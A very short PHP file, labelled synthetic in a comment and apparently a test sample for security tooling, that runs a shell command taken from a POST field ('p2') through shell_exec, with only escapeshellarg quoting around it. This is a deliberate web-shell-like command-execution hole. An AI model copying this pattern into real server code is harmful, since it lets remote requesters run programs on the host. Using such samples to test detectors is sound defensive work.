<?php
// synthetic: a command helper called with the (quoted) posted command
function run1($in) {
    return shell_exec($in);
}
echo run1(escapeshellarg($_POST['p2']));
